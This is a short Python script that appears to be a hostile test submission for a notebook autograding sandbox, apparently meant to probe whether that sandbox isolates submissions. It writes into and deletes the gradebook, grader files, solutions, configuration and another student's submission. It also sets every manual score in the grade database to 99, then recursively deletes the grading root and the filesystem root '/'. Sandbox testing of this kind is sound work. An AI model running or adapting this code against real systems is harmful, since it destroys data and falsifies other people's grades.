# ruff: noqa
# class: host
# tries: writes into gradebook, checks, solutions, data and others' submissions by their paths
# %% halve
import os, shutil, sqlite3

half = 6
root = "PLACE_ROOT"
for path in (
    "gradebook.db",
    "graders/lessons/lesson_91_attacked.py",
    "solutions/91_attacked/91_attacked.ipynb",
    "data/table.csv",
    "submitted/honest_1/91_attacked/91_attacked.ipynb",
    "nbgrader_config.py",
    "autograded/attack-mark",
):
    try:
        with open(os.path.join(root, path), "a") as file:
            file.write("attack-mark")
        print("wrote", path)
    except OSError as error:
        print(error)
    try:
        os.remove(os.path.join(root, path))
    except OSError as error:
        print(error)
try:
    with sqlite3.connect(os.path.join(root, "gradebook.db")) as db:
        db.execute("update grade set manual_score = 99")
except sqlite3.Error as error:
    print(error)
shutil.rmtree(root, ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
